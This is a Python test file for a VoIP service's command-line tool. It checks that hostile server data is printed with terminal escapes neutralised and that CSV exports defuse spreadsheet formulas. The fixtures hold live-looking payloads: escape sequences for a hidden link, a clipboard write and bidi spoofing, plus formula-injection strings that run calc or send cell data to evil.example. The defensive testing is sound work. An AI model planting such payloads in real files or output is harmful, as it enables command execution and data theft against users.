"""What a hostile server (or a stranger's words in the account's data) can make the command line print.

Terminal escapes: an error's message, a field error, an `api` answer and a value are printed with
what a terminal acts on escaped (ESC sequences, OSC 8 links, OSC 52 clipboard writes, BEL, CR, C1
controls, bidi overrides), as table cells always were; JSON has them as JSON escapes, the same
values. CSV: text a spreadsheet would run as a formula is defused with a single quote, plain numbers
are not, and --csv-raw writes every cell as it is; in `--output csv` and in the export file alike.

The server is the test kit's sandbox served on loopback (callmeback_server), answering the crafted
errors as faults; the command line runs in this process (CliRunner), as a subprocess with its output
captured, and in a real pseudo-terminal, where what the terminal received is read.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from voipstudio_callmeback._cli import _export, _output
from voipstudio_callmeback._cli._export import CsvWriter, declared_columns
from voipstudio_callmeback._cli._output import visible
from voipstudio_callmeback_client.models import Cdr
from voipstudio_callmeback_testing import Sandbox, Served

from .conftest import Cli, Outcome, fields
from .test_terminal import in_terminal

# Each piece something a terminal would act on.
HOSTILE = (
    "\x1b[2J"  # ESC [ 2 J: clear the screen
    "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"  # OSC 8: a hidden link
    "\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write the clipboard (BEL ends it)
    "\x07"  # BEL
    "\rshown over"  # CR: back to the start of the line
    "\x9b31m"  # U+009B: a one-character CSI (C1)
    "\x85"  # NEL (C1)
    "\u202eevil"  # RLO: the rest of the line right to left
    "\u2066isolated\u2069"  # LRI ... PDI
    "\u2028"  # LINE SEPARATOR
)
# What none of the output may hold raw (a CR only as the pseudo-terminal's CR LF).
RAW = ("\x1b", "\x07", "\x9b", "\x85", "\u202e", "\u2066", "\u2069", "\u2028")
ERROR_BODY = {
    "message": "The request was refused" + HOSTILE,
    "errors": [{"field": "name" + HOSTILE, "message": "name is wrong" + HOSTILE, "code": "invalid"}],
}
# A setting's name holds at most 64 characters: the pieces that fit.
HOSTILE_NAME = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\rx\x9b31m\x85\u202eevil\u2066i\u2069\u2028"


def raw_controls(text: str) -> list[str]:
    """The characters of RAW in text, and a CR that ends no line."""
    found = [char for char in RAW if char in text]
    return [*found, "\r"] if re.search("\r(?!\n)", text) else found


def check_escaped(outcome: Outcome) -> None:
    """An error (status 1) whose message is shown escaped, not dropped, and holds nothing raw."""
    assert outcome.exit_code == 1, (outcome.stdout, outcome.stderr)
    assert raw_controls(outcome.stdout + outcome.stderr) == [], (outcome.stdout, outcome.stderr)
    assert "\\x1b[2J" in outcome.stderr, outcome.stderr
    assert "\\u202eevil" in outcome.stderr, outcome.stderr
    assert "\\x9b31m" in outcome.stderr, outcome.stderr


COMMANDS: dict[str, tuple[str, tuple[str, ...]]] = {
    "get": ("getSetting", ("settings", "get", "1")),
    "list": ("listSettings", ("settings", "list")),
    "list-csv": ("listSettings", ("settings", "list", "--output", "csv")),
    "delete": ("deleteSetting", ("settings", "delete", "1", "--yes")),
    "update": ("updateSetting", ("settings", "update", "1", "--name", "x")),
    "api": ("getSetting", ("api", "GET", "/callmeback/settings/1")),
}


@pytest.mark.parametrize("command", list(COMMANDS))
def test_an_error_message_is_printed_escaped(
    cli: Cli, callmeback_sandbox: Sandbox, callmeback_server: Served, command: str
) -> None:
    """In this process and as a subprocess, the server's message and field error are shown escaped."""
    operation, args = COMMANDS[command]
    callmeback_sandbox.fault(operation, status=400, body=ERROR_BODY, times=None)
    for run in (cli.invoke, cli.run):
        check_escaped(run("--sandbox", callmeback_server.url, *args))


def test_an_export_error_is_printed_escaped(
    cli: Cli, callmeback_sandbox: Sandbox, callmeback_server: Served, tmp_path: Path
) -> None:
    callmeback_sandbox.fault("listCdrs", status=400, body=ERROR_BODY, times=None)
    for run in (cli.invoke, cli.run):
        found = run("--sandbox", callmeback_server.url, "cdrs", "export", "--out", str(tmp_path / "c.csv"))
        check_escaped(found)
        assert "nothing was written" in found.stderr


def test_the_api_command_prints_answers_escaped(
    cli: Cli, callmeback_sandbox: Sandbox, callmeback_server: Served
) -> None:
    """`api`: a JSON answer has the characters as JSON escapes (the same value when parsed), a text
    answer is shown escaped line by line."""
    callmeback_sandbox.fault("getSetting", status=400, body=ERROR_BODY, times=None)
    found = cli.run("--sandbox", callmeback_server.url, "api", "GET", "/callmeback/settings/1")
    check_escaped(found)
    assert json.loads(found.stdout) == ERROR_BODY
    assert "\\u009b31m" in found.stdout
    callmeback_sandbox.clear_faults()
    callmeback_sandbox.fault("getSetting", status=400, body="first" + HOSTILE + "\nsecond line", times=None)
    text = cli.run("--sandbox", callmeback_server.url, "api", "GET", "/callmeback/settings/1")
    assert raw_controls(text.stdout + text.stderr) == []
    assert text.stdout == visible("first" + HOSTILE) + "\nsecond line\n"


def test_an_error_message_in_a_terminal(callmeback_sandbox: Sandbox, callmeback_server: Served) -> None:
    """What the terminal receives from an error holds no escape sequence at all (NO_COLOR: none of ours)."""
    callmeback_sandbox.fault("*", status=400, body=ERROR_BODY, times=None)
    for args in (("settings", "get", "1"), ("api", "GET", "/callmeback/settings/1"), ("cdrs", "list")):
        screen = in_terminal("--sandbox", callmeback_server.url, *args, env={"NO_COLOR": "1"})
        assert screen.status == 1, screen.text
        assert raw_controls(screen.text) == [], screen.text
        assert "\\x1b[2J" in screen.text


@pytest.fixture
def hostile_setting(callmeback_sandbox: Sandbox, callmeback_server: Served) -> int:
    """A setting of the demo account whose name holds HOSTILE_NAME; its id."""
    with callmeback_sandbox.client() as python:
        return int(python.settings.create(name=HOSTILE_NAME, position=3).id)


def test_a_value_is_escaped_in_tables_and_json(cli: Cli, callmeback_server: Served, hostile_setting: int) -> None:
    """A table shows the name escaped (the bidi override too); JSON holds the characters as JSON escapes,
    which parse back to the very name; in a terminal too."""
    table = cli.invoke("--sandbox", callmeback_server.url, "settings", "get", str(hostile_setting))
    assert table.exit_code == 0, table.stderr
    assert raw_controls(table.stdout) == []
    assert fields(table.stdout)["name"] == visible(HOSTILE_NAME)
    assert "\\u202eevil" in table.stdout
    as_json = cli.invoke("--sandbox", callmeback_server.url, "settings", "get", str(hostile_setting), "--json")
    assert raw_controls(as_json.stdout) == []
    assert as_json.json()["name"] == HOSTILE_NAME
    listed = cli.invoke("--sandbox", callmeback_server.url, "settings", "list", "--all", "--json")
    assert raw_controls(listed.stdout) == []
    assert HOSTILE_NAME in [item["name"] for item in listed.json()["data"]]
    screen = in_terminal(
        "--sandbox", callmeback_server.url, "settings", "get", str(hostile_setting), "--json", env={"NO_COLOR": "1"}
    )
    assert screen.status == 0, screen.text
    assert raw_controls(screen.text) == []
    assert "\x1b" not in screen.text


def test_json_text_is_the_same_json() -> None:
    value = {"a": HOSTILE, "b": ["\x7f", "\u2029", "plain é 漢字 👍"], "n": -3.5}
    text = _output.json_text(value)
    assert json.loads(text) == value
    assert raw_controls(text) == []
    assert "\x7f" not in text
    assert "\u2029" not in text
    assert "plain é 漢字 👍" in text  # other characters stay as they are


# --- CSV: formula injection --------------------------------------------------------------------------

# Text cells a spreadsheet would run: every first character of OWASP's list.
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Call back")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# Text left as it is: plain numbers (signed too) and text that runs nothing.
KEPT = ["+442079460000", "-3.5", "-1e5", "+.5", "Zoë", "1+1", "a=b", "'quoted", ""]


@pytest.mark.parametrize("text", list(FORMULAS.values()), ids=list(FORMULAS))
def test_csv_text_defuses_a_formula(text: str) -> None:
    assert _export.csv_text(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_csv_text_keeps_plain_numbers_and_text(text: str) -> None:
    assert _export.csv_text(text) == text


def test_a_phone_number_with_spaces_is_defused() -> None:
    """Not a plain number: a spreadsheet reads "+44 20 7946 0000" as a formula (it fails, but runs)."""
    assert _export.csv_text("+44 20 7946 0000") == "'+44 20 7946 0000"


# One call record per formula (its src_name), and one with the values to keep.
CSV_COLUMNS = ("id", "src_name", "src", "dst", "src_id", "charge", "labels", "dst_name")


@pytest.fixture
def hostile_cdrs(callmeback_sandbox: Sandbox, callmeback_server: Served) -> list[dict[str, Any]]:
    """Call records of the demo account whose callers' names are formulas; the records as the API has them."""
    records = [{"src_name": text, "src": "+442079460000", "charge": -3.5} for text in FORMULAS.values()]
    # A CR inside a cell: the cell is quoted, or a reader would start a row (and a formula) after it.
    records.append(
        {"src_name": "Zoë", "dst": "+44 20 7946 0000", "src_id": "-3.5", "labels": ["=1+1"], "rate": -2,
         "dst_name": "Smith\r=1+1"}
    )  # fmt: skip
    return callmeback_sandbox.add("cdrs", *records)


def expected_csv(record: dict[str, Any], columns: tuple[str, ...] | list[str], *, safe: bool) -> list[str]:
    """A record's CSV cells: text defused (safe) or not; numbers as repr() writes them; JSON for arrays."""
    row = []
    for name in columns:
        value = record.get(name)
        if value is None:
            row.append("")
        elif isinstance(value, list | dict):
            row.append(json.dumps(value, separators=(",", ":"), ensure_ascii=False))
        elif isinstance(value, str):
            row.append(_export.csv_text(value) if safe else value)
        else:
            row.append(repr(value))
    return row


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def file_text(path: Path) -> str:
    """A file's text, its line ends as they are (a CR in a quoted cell stays a CR)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def only_these(records: list[dict[str, Any]]) -> tuple[str, ...]:
    ids = [record["id"] for record in records]
    return ("--filter", f"id >= {min(ids)}", "--filter", f"id <= {max(ids)}")


def test_csv_output_defuses_formulas(cli: Cli, callmeback_server: Served, hostile_cdrs: list[dict[str, Any]]) -> None:
    """--output csv: each formula gets its quote; the numbers, the phone number without spaces and the
    JSON of an array are as they are. With --csv-raw, every cell as it is."""
    args = ("--sandbox", callmeback_server.url, "cdrs", "list", *only_these(hostile_cdrs), "--output", "csv")
    columns = ("--columns", ",".join(CSV_COLUMNS))
    safe = cli.invoke(*args, *columns)
    assert safe.exit_code == 0, safe.stderr
    header, *rows = read_csv(safe.stdout)
    assert header == list(CSV_COLUMNS)
    assert rows == [expected_csv(record, CSV_COLUMNS, safe=True) for record in hostile_cdrs]
    for row, text in zip(rows, FORMULAS.values(), strict=False):
        assert row[1] == "'" + text
        assert row[2] == "+442079460000"
        assert row[5] == "-3.5"
    assert rows[-1][3] == "'+44 20 7946 0000"
    assert rows[-1][4] == "-3.5"

    raw = cli.invoke(*args, *columns, "--csv-raw")
    assert raw.exit_code == 0, raw.stderr
    assert read_csv(raw.stdout)[1:] == [expected_csv(record, CSV_COLUMNS, safe=False) for record in hostile_cdrs]
    assert read_csv(raw.stdout)[1][1] == FORMULAS["="]


def test_an_item_in_csv_defuses_formulas(cli: Cli, callmeback_server: Served) -> None:
    """One item (create, get: print_item) in CSV: the same rule; --csv-raw writes it as it is."""
    made = cli.invoke(
        "--sandbox", callmeback_server.url, "settings", "create", "--name", FORMULAS["="], "--position", "3",
        "--output", "csv",
    )  # fmt: skip
    assert made.exit_code == 0, made.stderr
    header, row = read_csv(made.stdout)
    assert row[header.index("name")] == "'" + FORMULAS["="]
    assert row[header.index("position")] == "3"
    id = row[header.index("id")]
    for raw, name in ((False, "'" + FORMULAS["="]), (True, FORMULAS["="])):
        args = ("--sandbox", callmeback_server.url, "settings", "get", id, "--output", "csv")
        found = cli.invoke(*args, *(("--csv-raw",) if raw else ()))
        assert found.exit_code == 0, found.stderr
        header, row = read_csv(found.stdout)
        assert row[header.index("name")] == name


def test_the_export_file_defuses_formulas(
    cli: Cli, callmeback_server: Served, hostile_cdrs: list[dict[str, Any]], tmp_path: Path
) -> None:
    """cdrs export (its fast path: rows decoded straight from the page) to a file: the same cells."""
    args = ("--sandbox", callmeback_server.url, "cdrs", "export", *only_these(hostile_cdrs), "--no-progress")
    safe_path, raw_path = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert cli.invoke(*args, "--out", str(safe_path)).exit_code == 0
    assert cli.run(*args, "--out", str(raw_path), "--csv-raw").exit_code == 0
    header, *rows = read_csv(file_text(safe_path))
    assert header == declared_columns(Cdr)
    assert rows == [expected_csv(record, header, safe=True) for record in hostile_cdrs]
    assert [row[header.index("src_name")] for row in rows[: len(FORMULAS)]] == [
        "'" + text for text in FORMULAS.values()
    ]
    raw_header, *raw_rows = read_csv(file_text(raw_path))
    assert raw_rows == [expected_csv(record, raw_header, safe=False) for record in hostile_cdrs]


@pytest.mark.parametrize(
    "record",
    [
        *({"src_name": f"{first}x"} for first in "=+-@\t\r"),  # nothing else the page's check looks for
        {"src_name": 'a "quoted", cell', "dst_name": '-x, "y"'},
        {"src_name": "Smith\r=1+1"},
        {"src_name": "Smith, \n-1+1"},  # a quoted cell: "-" after its newline, no formula
    ],
    ids=[*FORMULAS, "quoted-minus", "cr-inside", "newline-inside"],
)
def test_a_page_of_one_row_is_defused(
    cli: Cli, callmeback_sandbox: Sandbox, callmeback_server: Served, tmp_path: Path, record: dict[str, Any]
) -> None:
    """Each first character alone on its page: the export looks at a page's cells one by one only when
    its text may hold a formula or a CR, and each of them must make it look."""
    (made,) = callmeback_sandbox.add("cdrs", record)
    path = tmp_path / "one.csv"
    found = cli.invoke(
        "--sandbox", callmeback_server.url, "cdrs", "export", "--filter", f"id = {made['id']}", "--out", str(path)
    )
    assert found.exit_code == 0, found.stderr
    header, *rows = read_csv(file_text(path))
    assert rows == [expected_csv(made, header, safe=True)]


def test_the_csv_writer_defuses_models_and_their_extra_members() -> None:
    """The writer's other path (models, for a page with members the spec does not declare): the
    values, the extra members and their names, which come from the service, are defused too."""
    rows = [
        {"id": 1, "src_name": FORMULAS["@"], "charge": -3.5, "src": "+442079460000", "=x": "=1+1"},
        {"id": 2, "dst_name": FORMULAS["="], "src_name": "Smith\r=1+1", "=x": "-3.5"},
    ]
    for safe in (True, False):
        out = io.StringIO(newline="")
        writer = CsvWriter(out, declared_columns(Cdr), safe=safe)
        for row in rows:
            writer.write(Cdr.from_dict(row))
        writer.finish()
        header, *written = read_csv(out.getvalue())
        assert header[-1] == ("'=x" if safe else "=x")
        assert written == [expected_csv(row, [*declared_columns(Cdr), "=x"], safe=safe) for row in rows]


def test_csv_and_json_lines_on_a_terminal_hold_no_control(
    callmeback_sandbox: Sandbox, callmeback_server: Served, hostile_setting: int
) -> None:
    """Data written to a terminal (--output csv, export --out -) has what the terminal would act on as
    JSON escapes; piped, the same commands write the values as they are (the tests above)."""
    made = callmeback_sandbox.add("cdrs", {"src_name": HOSTILE, "dst_name": "=1+1"})
    env = {"NO_COLOR": "1"}
    listed = in_terminal(
        "--sandbox", callmeback_server.url, "settings", "list", "--all", "--output", "csv", "--columns", "id,name",
        env=env,
    )  # fmt: skip
    assert listed.status == 0, listed.text
    assert raw_controls(listed.text) == [], listed.text
    assert "\\u202eevil" in listed.text
    for format in ("csv", "jsonl"):
        exported = in_terminal(
            "--sandbox", callmeback_server.url, "cdrs", "export", "--filter", f"id = {made[0]['id']}",
            "--out", "-", "--format", format, env=env,
        )  # fmt: skip
        assert exported.status == 0, exported.text
        assert raw_controls(exported.text) == [], exported.text
        assert "\\u001b[2J" in exported.text
        if format == "csv":
            assert "'=1+1" in exported.text
